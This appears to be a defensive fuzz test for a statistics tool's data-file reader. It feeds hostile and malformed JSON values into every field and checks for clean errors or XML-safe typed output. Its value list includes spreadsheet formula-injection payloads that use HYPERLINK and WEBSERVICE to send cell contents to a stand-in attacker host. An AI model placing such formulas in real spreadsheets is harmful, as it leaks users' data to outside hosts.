/**
 * Any JSON value in any string field of a data file — objects exceljs would turn into
 * formulas or links, arrays, numbers, long strings, formula-like text, characters XML
 * forbids, prototype names — gives either a KostraError ("bad-input") with one line in each
 * language, or typed observations and provenance whose every string is XML-safe.
 * Hand-picked values plus seeded pseudo-random ones (the same every run).
 * Data: SYNTHETIC (tests/support/groups-dataset.ts, tests/fixtures/ssb/12362-pmk-2017.json).
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { KostraError } from "../../src/kostra/errors";
import { hasXmlForbidden } from "../../src/kostra/safe-text";
import type { Observation, Provenance } from "../../src/kostra/types";
import { readDataFile, type SourceResult } from "../../src/sources/file";
import { writeObservationsFile } from "../../src/sources/observations-file";
import { syntheticDataset } from "../support/groups-dataset";

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Json = any;

const PICKED: Json[] = [
  { formula: 'HYPERLINK("http://evil.example/?"&A2)' },
  { formula: 'WEBSERVICE("http://evil.example/?"&A2)', result: 1 },
  { sharedFormula: "A1" },
  { richText: [{ text: "x" }] },
  { text: "klikk", hyperlink: "http://evil.example/" },
  { error: "#REF!" },
  [],
  ["a", "b"],
  null,
  true,
  0,
  -1.5,
  1e308,
  2 ** 53 + 1,
  "",
  " ",
  "=1+1",
  "+A1",
  "-A1",
  "@SUM(A1:A9)",
  "\t=HYPERLINK(1)",
  "x".repeat(1_001),
  "y".repeat(20_001),
  "\u0000",
  "\u0001a\u001F",
  "\uFFFE\uFFFF",
  "\uD800",
  "\uDFFFx",
  "a\r\nb\u2028c",
  "__proto__",
  "constructor",
  "0219",
  "2017K1",
  "1e309",
  "2018-06-15T06:00:00Z",
  "https://evil.example/",
];

/** mulberry32: a small seeded generator, so every run tries the same values. */
function random(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const ALPHABET = ["a", "Ø", "=", "+", "-", "@", "\t", "\n", '"', "\\", "\u0000", "\u0008", "\uFFFE", "\uFFFF", "\uD83D", "\uDE00", "😀", "<", "&", "]]>"];

function randomValue(next: () => number, depth = 0): Json {
  const kind = Math.floor(next() * (depth > 2 ? 4 : 6));
  if (kind === 0) return Array.from({ length: Math.floor(next() * 40) }, () => ALPHABET[Math.floor(next() * ALPHABET.length)]).join("");
  if (kind === 1) return [0, -0, 1e-300, 123.456, -1e21, 7][Math.floor(next() * 6)];
  if (kind === 2) return [null, true, false][Math.floor(next() * 3)];
  if (kind === 3) return "z".repeat(Math.floor(next() * 3000));
  if (kind === 4) return Array.from({ length: Math.floor(next() * 4) }, () => randomValue(next, depth + 1));
  return Object.fromEntries(Array.from({ length: Math.floor(next() * 4) }, (_, i) => [["formula", "text", "hyperlink", "k"][i], randomValue(next, depth + 1)]));
}

const next = random(20261127);
const VALUES: Json[] = [...PICKED, ...Array.from({ length: 24 }, () => randomValue(next))];

/** Set the value at a path like ["provenance", 0, "query"]. */
function setAt(root: Json, path: (string | number)[], value: Json): Json {
  const copy = JSON.parse(JSON.stringify(root));
  let at = copy;
  for (const k of path.slice(0, -1)) at = at[k];
  at[path[path.length - 1]] = value;
  return copy;
}

/** What a read may give back: only typed observations and provenance with clean text. */
function expectTyped(r: SourceResult): void {
  const strings: string[] = [];
  JSON.stringify(r, (_k, v) => (typeof v === "string" && strings.push(v), v));
  expect(strings.filter(hasXmlForbidden)).toEqual([]);
  for (const p of r.dataset.provenance as Provenance[]) {
    for (const [k, v] of Object.entries(p)) {
      if (k === "notes") expect((v as unknown[]).every((n) => typeof n === "string")).toBe(true);
      else if (k === "synthetic") expect(typeof v).toBe("boolean");
      else expect(typeof v).toBe("string");
    }
  }
  for (const o of r.dataset.observations as Observation[]) {
    expect(o.value === null || Number.isFinite(o.value)).toBe(true);
    expect(o.status === undefined || typeof o.status === "string").toBe(true);
    for (const k of ["indicator", "municipality", "code"] as const) expect(typeof o[k]).toBe("string");
  }
}

function tryRead(text: string): "read" | "refused" {
  let result: SourceResult;
  try {
    result = readDataFile(new TextEncoder().encode(text), "fil.json");
  } catch (e) {
    expect(e).toBeInstanceOf(KostraError);
    const k = e as KostraError;
    expect(k.code).toBe("bad-input");
    for (const lang of ["nb", "en"] as const) {
      expect(k.messageIn(lang)).toMatch(/^fil\.json/);
      expect(k.messageIn(lang)).not.toMatch(/[\r\n\u2028\u2029]/);
      expect(hasXmlForbidden(k.messageIn(lang))).toBe(false);
      expect(k.messageIn(lang).length).toBeLessThan(800);
    }
    return "refused";
  }
  expectTyped(result);
  return "read";
}

const observationsFile: Json = JSON.parse(
  writeObservationsFile(syntheticDataset(), {
    createdAt: new Date("2026-01-01T00:00:00Z"),
    request: { sectors: ["plan-miljo-kultur"] },
    missing: [{ indicator: "bibliotek", years: [2020], reason: { nb: "x", en: "x" } }],
    kostraGroups: [{ year: 2021, date: "2021-01-01", source: "SSB Klass", url: "https://data.ssb.no/x", fetchedAt: "2026-01-01T00:00:00Z", groups: { ha: "ekg07" } }],
  }),
);
observationsFile.provenance[0] = { source: "ssb", table: "12362", query: "https://data.ssb.no/api/v0/x", fetchedAt: "2026-01-01T00:00:00Z", updated: "2025-06-15T06:00:00Z", notes: ["n"] };
observationsFile.observations[1].status = "..";

const jsonStat: Json = JSON.parse(readFileSync(join(__dirname, "..", "fixtures", "ssb", "12362-pmk-2017.json"), "utf8"));
jsonStat.status = { "0": ".." };
jsonStat.dimension.KOKkommuneregion0000.category.unit = { "0219": { base: "kr", decimals: 0 } };

const OBSERVATIONS_FIELDS: (string | number)[][] = [
  ["format"], ["createdAt"],
  ["provenance", 0, "source"], ["provenance", 0, "table"], ["provenance", 0, "query"], ["provenance", 0, "fetchedAt"], ["provenance", 0, "updated"], ["provenance", 0, "notes", 0], ["provenance", 0, "notes"],
  ["observations", 1, "indicator"], ["observations", 1, "municipality"], ["observations", 1, "code"], ["observations", 1, "status"], ["observations", 1, "value"],
  ["kostraGroups", 0, "source"], ["kostraGroups", 0, "url"], ["kostraGroups", 0, "date"], ["kostraGroups", 0, "fetchedAt"], ["kostraGroups", 0, "groups", "ha"],
  ["missing", 0, "indicator"], ["missing", 0, "reason", "nb"],
];

const JSON_STAT_FIELDS: (string | number)[][] = [
  ["version"], ["class"], ["label"], ["source"], ["updated"], ["note", 0], ["id", 4], ["status"], ["status", "0"], ["value", 0],
  ["dimension", "Tid", "label"], ["dimension", "KOKkommuneregion0000", "category", "index", "0219"], ["dimension", "KOKkommuneregion0000", "category", "label", "0219"],
  ["dimension", "KOKkommuneregion0000", "category", "unit", "0219", "base"], ["extension", "px", "tableid"],
];

describe("any JSON value in any string field", () => {
  it.each(OBSERVATIONS_FIELDS.map((p) => [p.join(".")]))("of a kostra fetch file: %s", (path) => {
    const p = OBSERVATIONS_FIELDS.find((x) => x.join(".") === path)!;
    const outcomes = VALUES.map((value) => tryRead(JSON.stringify(setAt(observationsFile, p, value))));
    // The unchanged file is read; so the refusals above come from the values tried.
    expect(tryRead(JSON.stringify(observationsFile))).toBe("read");
    expect(outcomes).toContain("refused");
  });

  it("of a kostra fetch file's free-form request: never read, so never passed on", () => {
    for (const value of VALUES) expect(tryRead(JSON.stringify(setAt(observationsFile, ["request"], value)))).toBe("read");
    const r = readDataFile(new TextEncoder().encode(JSON.stringify(setAt(observationsFile, ["request"], { formula: "HYPERLINK(1)" }))), "fil.json");
    expect(JSON.stringify(r)).not.toMatch(/HYPERLINK/);
  });

  it.each(JSON_STAT_FIELDS.map((p) => [p.join(".")]))("of a JSON-stat file: %s", (path) => {
    const p = JSON_STAT_FIELDS.find((x) => x.join(".") === path)!;
    const outcomes = VALUES.map((value) => tryRead(JSON.stringify(setAt(jsonStat, p, value))));
    expect(tryRead(JSON.stringify(jsonStat))).toBe("read");
    expect(outcomes).toContain("refused");
  });

  it.each(["region", "indicator", "year", "value", "status"])("of a CSV: %s", (field) => {
    const texts = VALUES.filter((x): x is string => typeof x === "string");
    const row = { region: "0219", indicator: "bibliotek", year: "2017", value: "1", status: "" };
    for (const t of texts) {
      const r = { ...row, [field]: `"${t.replace(/"/g, '""')}"` };
      tryRead(`region;indikator;år;verdi;status\n${r.region};${r.indicator};${r.year};${r.value};${r.status}\n`);
    }
  });
});
